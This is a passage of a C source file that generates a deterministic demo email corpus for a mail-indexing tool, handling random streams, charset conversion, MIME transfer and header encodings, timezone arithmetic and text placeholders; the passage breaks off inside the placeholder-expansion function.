/*
 * demo: writes the deterministic demo corpus and makes the demo cache.
 * See include/trawl/demo.h; the words and people come from demo-text.c.
 *
 * The generator never asks the system for time, randomness or locale:
 * every choice comes from a splitmix64 stream seeded from the seed and the
 * number of the thread being written, and dates are computed with our own
 * calendar arithmetic, so the same seed gives the same bytes everywhere.
 *
 * Memory: a struct demo_gen owns a talloc tree; each thread's messages
 * live in a context freed when the thread is written, and each message's
 * scratch strings in a context freed after the file is written.  Out of
 * memory is recorded in a flag rather than checked at every call: string
 * helpers then return "" and the flag turns into TRAWL_NOMEM when the
 * message is about to be written.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "demo-text.h"
#include "trawl/demo.h"
#include "trawl/index-build.h"
#include "trawl/index.h"
#include "trawl/util.h"

#define DEMO_ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

/* Lines of a parent quoted in a reply: enough to look real, bounded so long threads stay small. */
#define DEMO_QUOTE_LINES 40

/* Size of the large messages. */
#define DEMO_LARGE_BYTES (200 * 1024)

/* The first and last thread start: Monday 6 January 2014 and 1 October 2017 (UTC days). */
#define DEMO_FIRST_DAY 16076
#define DEMO_LAST_DAY 17440

static const char demo_domain[] = "eaux-valbrenne.example";
static const char demo_list_domain[] = "lists.eaux-valbrenne.example";

/* ---------------------------------------------------------------- generator state */

struct demo_rng {
	uint64_t s;
};

struct demo_gen {
	TALLOC_CTX *root;    /* owns everything the generator allocates */
	struct demo_rng rng; /* the stream of the thread being written */
	const char *dir;     /* the maildir */
	unsigned seed;
	unsigned count;      /* files to write */
	unsigned seq;        /* files written */
	unsigned streams;    /* rng streams started (one per thread or special) */
	bool oom;
	char *io_error;      /* set when a file could not be written */
	char *last;          /* the last ordinary message written, for duplicates */
	size_t last_len;
};

/* ---------------------------------------------------------------- random numbers */

/* splitmix64: small, fast, and the same on every platform. */
static uint64_t
demo_rng_next(struct demo_rng *r)
{
	uint64_t z = (r->s += 0x9E3779B97F4A7C15ull);

	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
	z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
	return z ^ (z >> 31);
}

static unsigned
demo_rng_below(struct demo_rng *r, unsigned n)
{
	return n ? (unsigned)(demo_rng_next(r) % n) : 0;
}

/* A number in [lo, hi]. */
static unsigned
demo_rng_range(struct demo_rng *r, unsigned lo, unsigned hi)
{
	return lo + demo_rng_below(r, hi - lo + 1);
}

static bool
demo_rng_pct(struct demo_rng *r, unsigned pct)
{
	return demo_rng_below(r, 100) < pct;
}

/*
 * Starts a new stream for the next thread, so that a thread's content
 * depends only on the seed and its position, not on what came before.
 */
static void
demo_gen_stream(struct demo_gen *g)
{
	g->rng.s = ((uint64_t)g->seed << 32) ^ ((uint64_t)g->streams++ * 0xD1B54A32D192ED03ull);
	(void)demo_rng_next(&g->rng);
}

/*
 * Callers draw at most one number per full expression (apart from the
 * operands of &&, || and ?:, which are ordered): C leaves the order of a
 * call's arguments and of + operands unspecified, and gcc and clang do
 * differ, which would make the corpus depend on the compiler.
 */
static const char *
demo_pick(struct demo_gen *g, const struct demo_strings *s)
{
	return s->n ? s->v[demo_rng_below(&g->rng, s->n)] : "";
}

/* ---------------------------------------------------------------- strings and buffers */

struct demo_buf {
	TALLOC_CTX *ctx;
	char *p;
	size_t len, cap;
	bool oom;
};

static void
demo_buf_init(struct demo_buf *b, TALLOC_CTX *ctx)
{
	memset(b, 0, sizeof(*b));
	b->ctx = ctx;
}

static bool
demo_buf_grow(struct demo_buf *b, size_t extra)
{
	size_t want = b->len + extra + 1;
	char *p;

	if (b->oom)
		return false;
	if (want <= b->cap)
		return true;
	if (want < 256)
		want = 256;
	if (want < b->cap * 2)
		want = b->cap * 2;
	p = talloc_realloc_size(b->ctx, b->p, want);
	if (!p) {
		b->oom = true;
		return false;
	}
	b->p = p;
	b->cap = want;
	return true;
}

static void
demo_buf_add(struct demo_buf *b, const void *data, size_t n)
{
	if (!demo_buf_grow(b, n))
		return;
	memcpy(b->p + b->len, data, n);
	b->len += n;
	b->p[b->len] = '\0';
}

static void
demo_buf_puts(struct demo_buf *b, const char *s)
{
	demo_buf_add(b, s, strlen(s));
}

/* One byte; the common case (room left) is kept short because most output goes through here. */
static void
demo_buf_putc(struct demo_buf *b, char c)
{
	if (b->len + 1 < b->cap) {
		b->p[b->len++] = c;
		b->p[b->len] = '\0';
		return;
	}
	demo_buf_add(b, &c, 1);
}

static void
demo_buf_hex(struct demo_buf *b, unsigned char c)
{
	static const char hex[] = "0123456789ABCDEF";

	demo_buf_putc(b, '=');
	demo_buf_putc(b, hex[c >> 4]);
	demo_buf_putc(b, hex[c & 15]);
}

static void
demo_buf_printf(struct demo_buf *b, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static void
demo_buf_printf(struct demo_buf *b, const char *fmt, ...)
{
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(NULL, 0, fmt, ap);
	va_end(ap);
	if (n < 0 || !demo_buf_grow(b, (size_t)n))
		return;
	va_start(ap, fmt);
	vsnprintf(b->p + b->len, (size_t)n + 1, fmt, ap);
	va_end(ap);
	b->len += (size_t)n;
}

/* The buffer's text; "" when empty or out of memory. */
static const char *
demo_buf_str(const struct demo_buf *b)
{
	return b->p && !b->oom ? b->p : "";
}

static char *
demo_strdup(struct demo_gen *g, TALLOC_CTX *ctx, const char *s)
{
	char *r = talloc_strdup(ctx, s);

	if (!r) {
		g->oom = true;
		return (char *)"";
	}
	return r;
}

/* Takes the buffer's text as a talloc string (or "" and the oom flag). */
static char *
demo_buf_take(struct demo_gen *g, struct demo_buf *b)
{
	if (b->oom) {
		g->oom = true;
		return (char *)"";
	}
	if (!b->p)
		return demo_strdup(g, b->ctx, "");
	return b->p;
}

static char *
demo_printf(struct demo_gen *g, TALLOC_CTX *ctx, const char *fmt, ...)
	__attribute__((format(printf, 3, 4)));

static char *
demo_printf(struct demo_gen *g, TALLOC_CTX *ctx, const char *fmt, ...)
{
	va_list ap;
	char *r;

	va_start(ap, fmt);
	r = talloc_vasprintf(ctx, fmt, ap);
	va_end(ap);
	if (!r) {
		g->oom = true;
		return (char *)"";
	}
	return r;
}

/* Decodes one UTF-8 sequence (our own tables are valid UTF-8). */
static uint32_t
demo_utf8_next(const char **ps)
{
	const unsigned char *s = (const unsigned char *)*ps;
	uint32_t c = s[0];
	int n = 0;

	if (c < 0x80)
		n = 0;
	else if ((c & 0xE0) == 0xC0)
		c &= 0x1F, n = 1;
	else if ((c & 0xF0) == 0xE0)
		c &= 0x0F, n = 2;
	else if ((c & 0xF8) == 0xF0)
		c &= 0x07, n = 3;
	else {
		*ps += 1;
		return 0xFFFD;
	}
	for (int i = 1; i <= n; i++) {
		if ((s[i] & 0xC0) != 0x80) {
			*ps += i;
			return 0xFFFD;
		}
		c = (c << 6) | (s[i] & 0x3F);
	}
	*ps += n + 1;
	return c;
}

/* Characters (not bytes) in a UTF-8 string, to wrap and pad by what a reader sees. */
static size_t
demo_utf8_len(const char *s, size_t bytes)
{
	size_t n = 0;

	for (size_t i = 0; i < bytes; i++)
		if (((unsigned char)s[i] & 0xC0) != 0x80)
			n++;
	return n;
}

static bool
demo_is_ascii(const char *s)
{
	for (; *s; s++)
		if ((unsigned char)*s >= 0x80)
			return false;
	return true;
}

/* Upper-cases the first letter in place: ASCII, or a Latin-1 letter in UTF-8 (é -> É). */
static void
demo_capitalize(char *s)
{
	unsigned char *u = (unsigned char *)s;

	if (u[0] >= 'a' && u[0] <= 'z')
		u[0] = (unsigned char)(u[0] - 'a' + 'A');
	else if (u[0] == 0xC3 && u[1] >= 0xA0 && u[1] <= 0xBE && u[1] != 0xB7)
		u[1] = (unsigned char)(u[1] - 0x20);
}

/* The first name of a display name: everything up to the first space. */
static char *
demo_first_name(struct demo_gen *g, TALLOC_CTX *ctx, const char *name)
{
	const char *sp = strchr(name, ' ');
	char *r = sp ? talloc_strndup(ctx, name, (size_t)(sp - name)) : talloc_strdup(ctx, name);

	if (!r) {
		g->oom = true;
		return (char *)"";
	}
	return r;
}

/* ---------------------------------------------------------------- charsets */

enum demo_cs {
	DEMO_CS_UTF8,
	DEMO_CS_LATIN1,
	DEMO_CS_CP1252,
	DEMO_CS_ASCII,
	DEMO_CS_JIS,
	DEMO_CS_KOI8R,
};

/* windows-1252 bytes 0x80..0x9F; 0 where the code page has a hole. */
static const uint16_t demo_cp1252_high[32] = {
	0x20AC, 0, 0x201A, 0x0192, 0x201E, 0x2026, 0x2020, 0x2021,
	0x02C6, 0x2030, 0x0160, 0x2039, 0x0152, 0, 0x017D, 0,
	0, 0x2018, 0x2019, 0x201C, 0x201D, 0x2022, 0x2013, 0x2014,
	0x02DC, 0x2122, 0x0161, 0x203A, 0x0153, 0, 0x017E, 0x0178,
};

/* KOI8-R 0xC0..0xFF in Unicode order of the code page. */
static const char demo_koi8r_letters[] =
	"юабцдефгхийклмнопярстужвьызшэщчъЮАБЦДЕФГХИЙКЛМНОПЯРСТУЖВЬЫЗШЭЩЧЪ";

/* What a character a charset lacks becomes, as a mail program would write it. */
static const char *
demo_cs_fallback(uint32_t c)
{
	switch (c) {
	case 0x20AC:
		return "EUR";
	case 0x2018:
	case 0x2019:
	case 0x201A:
		return "'";
	case 0x201C:
	case 0x201D:
	case 0x201E:
		return "\"";
	case 0x2013:
		return "-";
	case 0x2014:
		return "--";
	case 0x2026:
		return "...";
	case 0x0153:
		return "oe";
	case 0x0152:
		return "OE";
	case 0x2022:
		return "*";
	case 0x00A0:
	case 0x202F:
		return " ";
	case 0x2122:
		return "(TM)";
	default:
		return "?";
	}
}

static int
demo_koi8r_byte(uint32_t c)
{
	const char *p = demo_koi8r_letters;

	if (c == 0x0451)
		return 0xA3;
	if (c == 0x0401)
		return 0xB3;
	for (int i = 0; *p; i++) {
		if (demo_utf8_next(&p) == c)
			return 0xC0 + i;
	}
	return -1;
}

static int
demo_jis_code(uint32_t c)
{
	if (c >= 0x3041 && c <= 0x3093)
		return 0x2421 + (int)(c - 0x3041);
	if (c >= 0x30A1 && c <= 0x30F6)
		return 0x2521 + (int)(c - 0x30A1);
	for (unsigned i = 0; i < demo_jis_count; i++)
		if (demo_jis_table[i].ucs == c)
			return demo_jis_table[i].jis;
	return -1;
}

/*
 * Converts UTF-8 text to a charset, appending to out.  ISO-2022-JP
 * switches back to ASCII before every line end and at the end, as RFC 1468
 * asks, so any line or chunk of it stands alone.
 */
static void
demo_convert_n(const char *s, size_t n, enum demo_cs cs, struct demo_buf *out)
{
	const char *end = s + n;
	bool jis = false;

	if (cs == DEMO_CS_UTF8) {
		demo_buf_add(out, s, n);
		return;
	}
	while (s < end) {
		uint32_t c = demo_utf8_next(&s);
		int byte = -1;

		if (cs == DEMO_CS_JIS) {
			int code = c >= 0x80 ? demo_jis_code(c) : -1;

			if (code >= 0) {
				if (!jis)
					demo_buf_puts(out, "\x1b$B");
				jis = true;
				demo_buf_putc(out, (char)(code >> 8));
				demo_buf_putc(out, (char)(code & 0xFF));
				continue;
			}
			if (jis)
				demo_buf_puts(out, "\x1b(B");
			jis = false;
			demo_buf_putc(out, c < 0x80 ? (char)c : '?');
			continue;
		}
		if (c < 0x80)
			byte = (int)c;
		else if (cs == DEMO_CS_LATIN1 && c <= 0xFF)
			byte = (int)c;
		else if (cs == DEMO_CS_CP1252 && c >= 0xA0 && c <= 0xFF)
			byte = (int)c;
		else if (cs == DEMO_CS_CP1252) {
			for (int i = 0; i < 32; i++)
				if (demo_cp1252_high[i] == c)
					byte = 0x80 + i;
		} else if (cs == DEMO_CS_KOI8R)
			byte = demo_koi8r_byte(c);
		if (byte >= 0)
			demo_buf_putc(out, (char)byte);
		else
			demo_buf_puts(out, demo_cs_fallback(c));
	}
	if (jis)
		demo_buf_puts(out, "\x1b(B");
}

static void
demo_convert(const char *s, enum demo_cs cs, struct demo_buf *out)
{
	demo_convert_n(s, strlen(s), cs, out);
}

/* ---------------------------------------------------------------- transfer encodings */

static const char demo_b64_chars[] =
	"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/* Base64 in lines of 76 (wrap 0: one line, for encoded words). */
static void
demo_base64(const unsigned char *p, size_t n, size_t wrap, struct demo_buf *out)
{
	size_t col = 0;

	for (size_t i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)p[i] << 16;
		char q[4];

		if (i + 1 < n)
			v |= (uint32_t)p[i + 1] << 8;
		if (i + 2 < n)
			v |= p[i + 2];
		q[0] = demo_b64_chars[(v >> 18) & 63];
		q[1] = demo_b64_chars[(v >> 12) & 63];
		q[2] = i + 1 < n ? demo_b64_chars[(v >> 6) & 63] : '=';
		q[3] = i + 2 < n ? demo_b64_chars[v & 63] : '=';
		demo_buf_putc(out, q[0]);
		demo_buf_putc(out, q[1]);
		demo_buf_putc(out, q[2]);
		demo_buf_putc(out, q[3]);
		col += 4;
		if (wrap && col >= wrap) {
			demo_buf_putc(out, '\n');
			col = 0;
		}
	}
	if (wrap && col)
		demo_buf_putc(out, '\n');
}

/*
 * Quoted-printable (RFC 2045): hard line breaks stay, lines are cut with
 * soft breaks at 76, trailing blanks are encoded, and so is the F of a
 * line starting with "From " so the body survives an mbox.
 */
static void
demo_qp(const unsigned char *p, size_t n, struct demo_buf *out)
{
	size_t col = 0;

	for (size_t i = 0; i < n; i++) {
		unsigned char c = p[i];
		char tok[4];
		size_t tlen;
		bool eol_next = i + 1 == n || p[i + 1] == '\n';

		if (c == '\n') {
			demo_buf_putc(out, '\n');
			col = 0;
			continue;
		}
		if ((c == ' ' || c == '\t') && !eol_next) {
			tok[0] = (char)c;
			tlen = 1;
		} else if (c >= 33 && c <= 126 && c != '=' &&
			   !(c == 'F' && col == 0 && n - i >= 5 && memcmp(p + i, "From ", 5) == 0)) {
			tok[0] = (char)c;
			tlen = 1;
		} else {
			static const char hex[] = "0123456789ABCDEF";

			tok[0] = '=';
			tok[1] = hex[c >> 4];
			tok[2] = hex[c & 15];
			tlen = 3;
		}
		if (col + tlen > 75 && !(eol_next && col + tlen <= 76)) {
			demo_buf_puts(out, "=\n");
			col = 0;
		}
		demo_buf_add(out, tok, tlen);
		col += tlen;
	}
	if (col)
		demo_buf_putc(out, '\n');
}

enum demo_cte {
	DEMO_CTE_7BIT,
	DEMO_CTE_8BIT,
	DEMO_CTE_QP,
	DEMO_CTE_B64,
	DEMO_CTE_NONE, /* no Content-Transfer-Encoding header at all */
};

static const char *const demo_cte_names[] = {
	[DEMO_CTE_7BIT] = "7bit",
	[DEMO_CTE_8BIT] = "8bit",
	[DEMO_CTE_QP] = "quoted-printable",
	[DEMO_CTE_B64] = "base64",
	[DEMO_CTE_NONE] = NULL,
};

static bool
demo_bytes_ascii(const char *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		if ((unsigned char)p[i] >= 0x80)
			return false;
	return true;
}

/* Appends the body in the encoding, ending with a newline. */
static void
demo_encode_body(const char *p, size_t n, enum demo_cte cte, struct demo_buf *out)
{
	switch (cte) {
	case DEMO_CTE_QP:
		demo_qp((const unsigned char *)p, n, out);
		return;
	case DEMO_CTE_B64:
		demo_base64((const unsigned char *)p, n, 76, out);
		return;
	default:
		demo_buf_add(out, p, n);
		if (n == 0 || p[n - 1] != '\n')
			demo_buf_putc(out, '\n');
		return;
	}
}

/* ---------------------------------------------------------------- header encodings */

/* Characters an RFC 2047 Q word may carry as they are, in a phrase (RFC 2047 5(3)). */
static bool
demo_q_plain(unsigned char c)
{
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
	       c == '!' || c == '*' || c == '+' || c == '-' || c == '/';
}

static size_t
demo_q_len(const char *p, size_t n)
{
	size_t len = 0;

	for (size_t i = 0; i < n; i++)
		len += demo_q_plain((unsigned char)p[i]) || p[i] == ' ' ? 1 : 3;
	return len;
}

static void
demo_q_put(const char *p, size_t n, struct demo_buf *out)
{
	for (size_t i = 0; i < n; i++) {
		unsigned char c = (unsigned char)p[i];

		if (c == ' ')
			demo_buf_putc(out, '_');
		else if (demo_q_plain(c))
			demo_buf_putc(out, (char)c);
		else
			demo_buf_hex(out, c);
	}
}

/*
 * Appends s as RFC 2047 encoded words in charset cs (label as written),
 * B or Q, each at most 75 characters, cut between characters and
 * separated by a folding "\n ", as long subjects are in real mail.
 */
static void
demo_rfc2047(struct demo_gen *g, TALLOC_CTX *ctx, const char *s, enum demo_cs cs,
	     const char *label, char enc, struct demo_buf *out)
{
	size_t overhead = 7 + strlen(label);
	const char *start = s;
	struct demo_buf chunk;
	bool first = true;

	demo_buf_init(&chunk, ctx);
	while (*start) {
		const char *end = start, *best = NULL;

		/* Grows the chunk one character at a time while its encoding fits. */
		while (*end) {
			const char *next = end;
			size_t elen;

			(void)demo_utf8_next(&next);
			chunk.len = 0;
			demo_convert_n(start, (size_t)(next - start), cs, &chunk);
			elen = enc == 'B' ? (chunk.len + 2) / 3 * 4 : demo_q_len(chunk.p, chunk.len);
			if (best && overhead + elen > 75)
				break;
			best = next;
			end = next;
		}
		chunk.len = 0;
		demo_convert_n(start, (size_t)(best - start), cs, &chunk);
		if (!first)
			demo_buf_puts(out, "\n ");
		first = false;
		demo_buf_printf(out, "=?%s?%c?", label, enc);
		if (enc == 'B')
			demo_base64((const unsigned char *)demo_buf_str(&chunk), chunk.len, 0, out);
		else
			demo_q_put(demo_buf_str(&chunk), chunk.len, out);
		demo_buf_puts(out, "?=");
		start = best;
	}
	if (chunk.oom)
		g->oom = true;
	talloc_free(chunk.p);
}

/* RFC 2231 / RFC 3986 percent-encoding of a UTF-8 parameter value. */
static void
demo_rfc2231(const char *s, struct demo_buf *out)
{
	for (const unsigned char *u = (const unsigned char *)s; *u; u++) {
		if ((*u >= 'a' && *u <= 'z') || (*u >= 'A' && *u <= 'Z') || (*u >= '0' && *u <= '9') ||
		    *u == '-' || *u == '.' || *u == '_' || *u == '~')
			demo_buf_putc(out, (char)*u);
		else
			demo_buf_printf(out, "%%%02X", *u);
	}
}

/*
 * Folds a header at spaces so lines stay near 78 columns.  Unfolding only
 * removes the line break, so a space kept as the continuation's first
 * character gives back the same value.
 */
static void
demo_header(struct demo_buf *out, const char *name, const char *value)
{
	size_t col = strlen(name) + 2;
	const char *p = value;

	demo_buf_printf(out, "%s: ", name);
	while (*p) {
		const char *sp = strchr(p + 1, ' ');
		const char *nl = strchr(p, '\n');
		size_t word = sp ? (size_t)(sp - p) : strlen(p);

		if (nl && nl < p + word) {
			/* The value is folded already from here on (encoded words). */
			word = (size_t)(nl - p);
			demo_buf_add(out, p, word + 1);
			p = nl + 1;
			col = 0;
			continue;
		}
		if (*p == ' ' && col + word > 78 && col > 1) {
			demo_buf_putc(out, '\n');
			col = 0;
		}
		demo_buf_add(out, p, word);
		col += word;
		p += word;
	}
	demo_buf_putc(out, '\n');
}

/* ---------------------------------------------------------------- calendar */

struct demo_tm {
	int year;
	unsigned mon; /* 1..12 */
	unsigned day, hour, min, sec;
	unsigned wday; /* 0 = Sunday */
	int off;       /* minutes east of UTC */
	const char *abbr;
};

struct demo_zone_def {
	int std;         /* minutes east of UTC */
	int rule;        /* 0 none, 1 European Union, 2 North America */
	const char *std_abbr, *dst_abbr;
};

static const struct demo_zone_def demo_zones[DEMO_ZONES] = {
	[DEMO_TZ_PARIS] = {60, 1, "CET", "CEST"},
	[DEMO_TZ_LONDON] = {0, 1, "GMT", "BST"},
	[DEMO_TZ_MONTREAL] = {-300, 2, "EST", "EDT"},
	[DEMO_TZ_TOKYO] = {540, 0, "JST", "JST"},
	[DEMO_TZ_MOSCOW] = {180, 0, "MSK", "MSK"},
	[DEMO_TZ_KOLKATA] = {330, 0, "IST", "IST"},
	[DEMO_TZ_UTC] = {0, 0, "UTC", "UTC"},
};

/* Days since 1970-01-01 of a civil date (H. Hinnant's algorithm). */
static int64_t
demo_days_from_civil(int y, int m, int d)
{
	int64_t era;
	int yoe, doy, doe;

	y -= m <= 2;
	era = (y >= 0 ? y : y - 399) / 400;
	yoe = (int)(y - era * 400);
	doy = (153 * (m + (m > 2 ? -3 : 9)) + 2) / 5 + d - 1;
	doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
	return era * 146097 + doe - 719468;
}

static void
demo_civil_from_days(int64_t z, struct demo_tm *tm)
{
	int64_t era, yy;
	unsigned doe, yoe, doy, mp;

	z += 719468;
	era = (z >= 0 ? z : z - 146096) / 146097;
	doe = (unsigned)(z - era * 146097);
	yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
	yy = (int64_t)yoe + era * 400;
	doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
	mp = (5 * doy + 2) / 153;
	tm->day = doy - (153 * mp + 2) / 5 + 1;
	tm->mon = mp < 10 ? mp + 3 : mp - 9;
	tm->year = (int)(yy + (tm->mon <= 2));
}

static unsigned
demo_weekday(int64_t days)
{
	return (unsigned)(((days % 7) + 11) % 7);
}

/* The UTC second a zone's summer time starts and ends in a year. */
static void
demo_dst_bounds(int rule, int year, int64_t *start, int64_t *end)
{
	int64_t a, b;

	if (rule == 1) {
		/* Last Sundays of March and October, 01:00 UTC. */
		a = demo_days_from_civil(year, 3, 31);
		a -= demo_weekday(a);
		b = demo_days_from_civil(year, 10, 31);
		b -= demo_weekday(b);
		*start = a * 86400 + 3600;
		*end = b * 86400 + 3600;
	} else {
		/* Second Sunday of March and first of November, 02:00 local (Eastern). */
		a = demo_days_from_civil(year, 3, 1);
		a += (7 - demo_weekday(a)) % 7 + 7;
		b = demo_days_from_civil(year, 11, 1);
		b += (7 - demo_weekday(b)) % 7;
		*start = a * 86400 + 7 * 3600;
		*end = b * 86400 + 6 * 3600;
	}
}

static void
demo_localtime(int64_t t, enum demo_zone zone, struct demo_tm *tm)
{
	const struct demo_zone_def *z = &demo_zones[zone];
	int64_t local, days, secs;
	bool dst = false;

	tm->off = z->std;
	if (z->rule) {
		struct demo_tm utc;
		int64_t a, b;

		demo_civil_from_days(t / 86400, &utc);
		demo_dst_bounds(z->rule, utc.year, &a, &b);
		dst = t >= a && t < b;
	}
	if (dst)
		tm->off += 60;
	tm->abbr = dst ? z->dst_abbr : z->std_abbr;
	local = t + tm->off * 60;
	days = local / 86400;
	secs = local % 86400;
	demo_civil_from_days(days, tm);
	tm->wday = demo_weekday(days);
	tm->hour = (unsigned)(secs / 3600);
	tm->min = (unsigned)(secs / 60 % 60);
	tm->sec = (unsigned)(secs % 60);
}

static const char *const demo_wday_abbr[7] = {"Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"};
static const char *const demo_mon_abbr[12] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
					      "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

/* An RFC 5322 date; style 1 adds the zone name in a comment, style 2 drops the weekday. */
static char *
demo_rfc5322_date(struct demo_gen *g, TALLOC_CTX *ctx, int64_t t, enum demo_zone zone, int style)
{
	struct demo_tm tm;
	int off;

	demo_localtime(t, zone, &tm);
	off = tm.off < 0 ? -tm.off : tm.off;
	return demo_printf(g, ctx, "%s%s%u %s %d %02u:%02u:%02u %c%02d%02d%s%s%s",
			   style == 2 ? "" : demo_wday_abbr[tm.wday], style == 2 ? "" : ", ",
			   tm.day, demo_mon_abbr[tm.mon - 1], tm.year, tm.hour, tm.min, tm.sec,
			   tm.off < 0 ? '-' : '+', off / 60, off % 60, style == 1 ? " (" : "",
			   style == 1 ? tm.abbr : "", style == 1 ? ")" : "");
}

/* ---------------------------------------------------------------- people and addresses */

static const struct demo_person *
demo_person(unsigned i)
{
	return &demo_people[i];
}

static char *
demo_email(struct demo_gen *g, TALLOC_CTX *ctx, unsigned who)
{
	const struct demo_person *p = demo_person(who);

	return demo_printf(g, ctx, "%s@%s", p->login, demo_orgs[p->org].domain);
}

static bool
demo_is_staff(unsigned who)
{
	return demo_person(who)->org == DEMO_ORG_REVB;
}

/* Picks someone matching a department mask (staff and board) or an org mask (outsiders). */
static int
demo_pick_person(struct demo_gen *g, unsigned depts, unsigned long orgs, int avoid)
{
	unsigned cand[128], n = 0;

	for (unsigned i = 0; i < demo_people_count && n < DEMO_ARRAY_SIZE(cand); i++) {
		const struct demo_person *p = demo_person(i);

		if ((int)i == avoid)
			continue;
		if (p->dept == DEMO_EXT ? (orgs & (1ul << p->org)) != 0
					: (depts & DEMO_DEPT(p->dept)) != 0)
			cand[n++] = i;
	}
	return n ? (int)cand[demo_rng_below(&g->rng, n)] : -1;
}

static unsigned
demo_person_index(const char *login)
{
	for (unsigned i = 0; i < demo_people_count; i++)
		if (strcmp(demo_people[i].login, login) == 0)
			return i;
	return 0;
}

/* ---------------------------------------------------------------- placeholders */

struct demo_env {
	int lang;
	int64_t when;      /* the message's time */
	const char *first; /* the addressee's first name, NULL for a group */
	bool no_euro;      /* the message's charset has no € sign: people write EUR */
	uint64_t *used;    /* sentences of the topic already in the message, or NULL */
};

/* A number with thousands separated the French (no-break space) or English way. */
static void
demo_put_number(struct demo_buf *out, unsigned long v, int lang)
{
	char digits[32];
	int n = snprintf(digits, sizeof(digits), "%lu", v);

	for (int i = 0; i < n; i++) {
		if (i && (n - i) % 3 == 0) {
			if (lang == DEMO_FR)
				demo_buf_puts(out, "\xc2\xa0");
			else
				demo_buf_putc(out, ',');
		}
		demo_buf_putc(out, digits[i]);
	}
}

static void
demo_put_money(struct demo_buf *out, unsigned long v, int lang, bool no_euro)
{
	if (lang == DEMO_EN)
		demo_buf_puts(out, no_euro ? "EUR " : "€");
	demo_put_number(out, v, lang);
	if (lang == DEMO_FR)
		demo_buf_puts(out, no_euro ? "\xc2\xa0" "EUR" : "\xc2\xa0€");
}

/* A value in tenths: "3,5" or "3.5", without decimals when they are zero. */
static void
demo_put_tenths(struct demo_buf *out, unsigned v, int lang)
{
	demo_put_number(out, v / 10, lang);
	if (v % 10)
		demo_buf_printf(out, "%c%u", lang == DEMO_FR ? ',' : '.', v % 10);
}

static void
demo_put_day(struct demo_gen *g, struct demo_buf *out, int64_t t, int lang)
{
	const struct demo_phrases *ph = &demo_phrases[lang];
	struct demo_tm tm;

	demo_localtime(t + (int64_t)demo_rng_range(&g->rng, 1, 20) * 86400, DEMO_TZ_PARIS, &tm);
	if (lang == DEMO_FR)
		demo_buf_printf(out, "%s %u%s %s", ph->days[tm.wday], tm.day, tm.day == 1 ? "er" : "",
				ph->months[tm.mon - 1]);
	else
		demo_buf_printf(out, "%s %u %s", ph->days[tm.wday], tm.day, ph->months[tm.mon - 1]);
}

static void
demo_put_time(struct demo_gen *g, struct demo_buf *out, int lang)
{
	unsigned h = demo_rng_range(&g->rng, 8, 18), m = demo_rng_below(&g->rng, 4) * 15;

	if (lang == DEMO_EN)
		demo_buf_printf(out, "%u:%02u %s", h > 12 ? h - 12 : h, m, h >= 12 ? "pm" : "am");
	else if (m)
		demo_buf_printf(out, "%u h %02u", h, m);
	else
		demo_buf_printf(out, "%u h", h);
}

/* Intranet links: a path before and after the year and month. */
static const char *const demo_url_paths[][2] = {
	{"documents/qualite/rapport-mensuel-", ".pdf"},
	{"rh/planning-astreintes?periode=", "&vue=equipe"},
	{"extranet/elus/seance-", ""},
	{"portail/#/dossiers/", "/pieces"},
};

static void
demo_expand_key(struct demo_gen *g, const struct demo_env *env, const char *key, size_t klen,
		struct demo_buf *out)
{
	struct demo_tm tm;
	int lang = env->lang;

#define KEY(s) (klen == sizeof(s) - 1 && memcmp(key, s, klen) == 0)
	demo_localtime(env->when, DEMO_TZ_PARIS, &tm);
	if (KEY("first")) {
		demo_buf_puts(out, env->first ? env->first : lang == DEMO_FR ? "tous" : "all");
	} else if (KEY("colleague")) {
		int who = demo_pick_person(g, ~DEMO_DEPT(DEMO_BOARD) & ~DEMO_DEPT(DEMO_EXT), 0, -1);
		const char *name = who >= 0 ? demo_person((unsigned)who)->name : "Hélène";
		const char *sp = strchr(name, ' ');

		demo_buf_add(out, name, sp ? (size_t)(sp - name) : strlen(name));
	} else if (KEY("amount")) {
		unsigned long thousands = demo_rng_range(&g->rng, 1, 90);
		unsigned long fifties = demo_rng_below(&g->rng, 20);

		demo_put_money(out, thousands * 1000 + fifties * 50, lang, env->no_euro);
	} else if (KEY("bigamount")) {
		demo_put_money(out, demo_rng_range(&g->rng, 100, 4000) * 1000ul, lang, env->no_euro);
	} else if (KEY("pct")) {
		demo_put_tenths(out, demo_rng_range(&g->rng, 5, 150), lang);
		demo_buf_puts(out, lang == DEMO_FR ? "\xc2\xa0%" : "%");
	} else if (KEY("n")) {
		demo_buf_printf(out, "%u", demo_rng_range(&g->rng, 3, 12));
	} else if (KEY("count")) {
		demo_buf_printf(out, "%u", demo_rng_range(&g->rng, 12, 400));
	} else if (KEY("day")) {
		demo_put_day(g, out, env->when, lang);
	} else if (KEY("time")) {
		demo_put_time(g, out, lang);
	} else if (KEY("site")) {
		demo_buf_puts(out, demo_pick(g, &demo_sites));
	} else if (KEY("street")) {
		demo_buf_puts(out, demo_pick(g, &demo_streets));
	} else if (KEY("company")) {
		demo_buf_puts(out, demo_pick(g, &demo_companies));
	} else if (KEY("ref")) {
		int year = tm.year - (int)demo_rng_below(&g->rng, 2);

		demo_buf_printf(out, "%d-AO-%03u", year, demo_rng_range(&g->rng, 1, 60));
	} else if (KEY("ticket")) {
		demo_buf_printf(out, "INC%07u", demo_rng_range(&g->rng, 100000, 999999));
	} else if (KEY("doc")) {
		demo_buf_puts(out, demo_pick(g, &demo_phrases[lang].docs));
